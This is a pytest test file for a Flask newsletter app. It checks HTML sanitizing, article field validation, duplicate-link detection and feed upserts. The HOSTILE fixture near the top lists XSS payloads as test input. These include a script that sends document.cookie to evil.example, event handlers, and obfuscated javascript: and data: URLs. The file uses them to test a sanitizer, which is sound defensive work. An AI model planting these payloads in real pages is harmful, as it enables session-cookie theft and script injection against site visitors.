"""Articles: HTML sanitizing, saving with deduplication, feed upserts."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone

import pytest
from flask import Flask
from sqlalchemy import func, select

from mailer.articles.service import (
    SUMMARY_LIMIT,
    DuplicateArticle,
    sanitize_html,
    save_article,
    upsert_from_feed,
)
from mailer.extensions import db
from mailer.models import Article

HOSTILE = """
<p style="position:fixed" onmouseover="steal()">Hello <em>world</em></p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://news.example.org/x.png" onerror="alert('img')" alt="x" width="10">
<img src="javascript:alert('src')">
<a href="javascript:alert('link')">one</a>
<a href="JaVaScRiPt:alert('mixed')">two</a>
<a href="jav&#x09;ascript:alert('tab')">three</a>
<a href="data:text/html,<script>alert(1)</script>">four</a>
<a href="https://news.example.org/ok" target="_blank" onclick="x()">fine</a>
<iframe src="https://evil.example/frame">frame text</iframe>
<svg><script>alert('svg')</script></svg>
<style>body { display: none }</style>
"""


def count_articles() -> int:
    return db.session.scalar(select(func.count()).select_from(Article)) or 0


def test_sanitize_removes_scripts_handlers_styles_and_javascript_urls() -> None:
    clean = sanitize_html(HOSTILE).lower()
    for needle in ("<script", "onerror", "onmouseover", "onclick", "style", "javascript:",
                   "data:", "<iframe", "frame text", "<svg", "alert(", "target="):  # fmt: skip
        assert needle not in clean, needle
    assert "<p>hello <em>world</em></p>" in clean
    assert '<img src="https://news.example.org/x.png" alt="x" width="10">' in clean
    assert '<a href="https://news.example.org/ok" rel="noopener noreferrer">fine</a>' in clean


def test_sanitize_keeps_article_markup_and_resolves_relative_links() -> None:
    html = (
        "<h2>Head</h2><blockquote><p>Quote</p></blockquote><ul><li>a</li></ul>"
        '<figure><img src="/img/a.png" alt="A"><figcaption>Cap</figcaption></figure>'
        '<p><a href="/more">more</a> <a href="mailto:desk@example.org">mail</a><br></p>'
        "<div><span>unwrapped</span></div>"
    )
    assert sanitize_html(html, base_url="https://news.example.org/a/b") == (
        "<h2>Head</h2><blockquote><p>Quote</p></blockquote><ul><li>a</li></ul>"
        '<figure><img src="https://news.example.org/img/a.png" alt="A"><figcaption>Cap'
        '</figcaption></figure><p><a href="https://news.example.org/more" '
        'rel="noopener noreferrer">more</a> <a href="mailto:desk@example.org" '
        'rel="noopener noreferrer">mail</a><br></p>unwrapped'
    )
    # Without a base, relative URLs go: mail needs absolute ones.
    assert sanitize_html('<a href="/more">x</a>') == '<a rel="noopener noreferrer">x</a>'


def test_save_article_cleans_fields_and_only_flushes(app: Flask) -> None:
    with app.app_context():
        article = save_article(
            None,
            title="  A  title\n with spaces ",
            link="https://news.example.org/a",
            guid=None,
            summary="<p>First <b>para</b>.</p><p>Second &amp; last.</p><script>x()</script>",
            body_html=HOSTILE,
            image_url="",
            author="  ",
            tags="Press, press,  Courts ,,",
            language="fr",
            published_at=None,
        )
        assert article.id is not None  # flushed
        assert article.title == "A title with spaces"
        assert article.guid == "https://news.example.org/a"
        assert article.summary == "First para. Second & last."
        assert "<script" not in article.body_html and "onerror" not in article.body_html
        assert article.image_url is None and article.author is None
        assert article.tags == "Press, Courts"
        assert article.published_at.tzinfo is not None
        assert datetime.now(UTC) - article.published_at < timedelta(minutes=1)
        db.session.rollback()  # never committed
        assert count_articles() == 0


def test_save_article_caps_summary_as_plain_text(app: Flask) -> None:
    with app.app_context():
        words = " ".join(["word"] * 600)
        article = save_article(None, title="T", link="https://e.org/1", summary=f"<p>{words}</p>")
        assert len(article.summary) <= SUMMARY_LIMIT
        assert article.summary.endswith("word…")


def test_save_article_converts_times_to_utc(app: Flask) -> None:
    with app.app_context():
        local = datetime(2026, 3, 2, 9, 30, tzinfo=timezone(timedelta(hours=1)))
        article = save_article(None, title="T", link="https://e.org/1", published_at=local)
        db.session.commit()
        db.session.expire_all()
        stored = db.session.get(Article, article.id)
        assert stored is not None
        assert stored.published_at == datetime(2026, 3, 2, 8, 30, tzinfo=UTC)
        assert stored.published_at.utcoffset() == timedelta(0)


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"title": "  ", "link": "https://e.org/x"}, "Give the article a title."),
        ({"title": "T", "link": ""}, "The link is missing."),
        ({"title": "T", "link": "javascript:alert(1)"}, "The link must be a full http"),
        (
            {"title": "T", "link": "https://e.org/x", "image_url": "ftp://e.org/i.png"},
            "The image URL must be a full http",
        ),  # fmt: skip
        ({"title": "T" * 501, "link": "https://e.org/x"}, "The title is longer than 500"),
        ({"title": "T", "link": "https://e.org/x", "language": "english!"}, "language code"),
        (
            {"title": "T", "link": "https://e.org/x", "published_at": datetime(2026, 1, 1)},
            "time zone",
        ),  # fmt: skip
    ],
)
def test_save_article_refuses_bad_values(
    app: Flask, fields: dict[str, object], message: str
) -> None:
    with app.app_context():
        with pytest.raises(ValueError, match=message):
            save_article(None, **fields)
        assert count_articles() == 0


def test_save_article_refuses_a_taken_link_or_guid(app: Flask) -> None:
    with app.app_context():
        first = save_article(None, title="One", link="https://e.org/1", guid="g1")
        other = save_article(None, title="Two", link="https://e.org/2")
        db.session.commit()
        with pytest.raises(DuplicateArticle, match="Another article has this link."):
            save_article(None, title="Three", link="https://e.org/1")
        with pytest.raises(DuplicateArticle, match="Another article has this GUID."):
            save_article(other, title="Two", link="https://e.org/2", guid="g1")
        # Saving an article with its own link and guid is fine.
        save_article(first, title="One again", link="https://e.org/1", guid="g1")
        db.session.commit()
        assert count_articles() == 2
        assert first.title == "One again"


def test_save_article_turns_a_unique_violation_into_duplicate(app: Flask) -> None:
    """A row the check could not see (another transaction's) still gives DuplicateArticle."""
    with app.app_context():
        # Pending but unflushed while the check runs: what a concurrent insert looks like.
        with db.session.no_autoflush:
            db.session.add(Article(title="Racer", link="https://e.org/race", guid="race"))
            with pytest.raises(DuplicateArticle, match="Another article"):
                save_article(None, title="Mine", link="https://e.org/race")
        db.session.rollback()
        assert count_articles() == 0


def test_save_article_keeps_fields_left_out_and_publication_time(app: Flask) -> None:
    with app.app_context():
        when = datetime(2026, 1, 5, 10, 0, tzinfo=UTC)
        article = save_article(
            None, title="T", link="https://e.org/1", region="Europe", published_at=when
        )
        save_article(article, title="T2", published_at=None)
        assert (article.title, article.region, article.published_at) == ("T2", "Europe", when)


def test_upsert_dedupes_by_guid_then_link(app: Flask) -> None:
    with app.app_context():
        entry = {"title": "T", "link": "https://e.org/1", "guid": "g1", "summary": "S"}
        assert upsert_from_feed(**entry) == "added"
        assert upsert_from_feed(**entry) == "unchanged"
        # Same guid, new link: the same article, moved.
        assert upsert_from_feed(**{**entry, "link": "https://e.org/moved"}) == "updated"
        # Unknown guid, known link: the same article again; it takes the new guid.
        assert upsert_from_feed(**{**entry, "link": "https://e.org/moved", "guid": "g2"}) == (
            "updated"
        )
        articles = db.session.scalars(select(Article)).all()
        assert [(a.guid, a.link) for a in articles] == [("g2", "https://e.org/moved")]


def test_upsert_keeps_what_editors_added(app: Flask) -> None:
    with app.app_context():
        upsert_from_feed(title="T", link="https://e.org/1", guid="g1")
        article = db.session.scalars(select(Article)).one()
        save_article(article, region="Asia", image_credit="Photo: Desk")
        assert upsert_from_feed(title="T", link="https://e.org/1", guid="g1") == "unchanged"
        assert upsert_from_feed(title="New", link="https://e.org/1", guid="g1") == "updated"
        assert (article.title, article.region, article.image_credit) == (
            "New",
            "Asia",
            "Photo: Desk",
        )


def test_upsert_refuses_a_link_another_article_has(app: Flask) -> None:
    with app.app_context():
        upsert_from_feed(title="A", link="https://e.org/a", guid="ga")
        upsert_from_feed(title="B", link="https://e.org/b", guid="gb")
        with pytest.raises(DuplicateArticle, match="Another article has this link."):
            upsert_from_feed(title="A", link="https://e.org/b", guid="ga")
        assert db.session.scalars(select(Article.link).order_by(Article.guid)).all() == [
            "https://e.org/a",
            "https://e.org/b",
        ]
